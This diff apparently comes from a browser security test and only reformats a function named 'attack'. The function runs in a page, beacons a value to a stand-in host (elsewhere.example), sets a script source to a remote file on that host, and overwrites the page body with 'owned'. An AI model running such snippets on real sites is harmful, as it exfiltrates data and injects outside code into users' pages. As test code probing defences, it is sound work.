@@ -19,7 +19,10 @@ async function attack(page: Page): Promise<void> {
   await page.evaluate(() => {
     new Image().src = 'https://elsewhere.example/?number=4242';
     const script = document.createElement('script');
-    for (const act of [() => script.setAttribute('src', 'https://elsewhere.example/x.js'), () => Reflect.set(document.body, 'innerHTML', '<b>owned</b>')]) {
+    for (const act of [
+      () => script.setAttribute('src', 'https://elsewhere.example/x.js'),
+      () => Reflect.set(document.body, 'innerHTML', '<b>owned</b>'),
+    ]) {
       try {
         act();
       } catch {
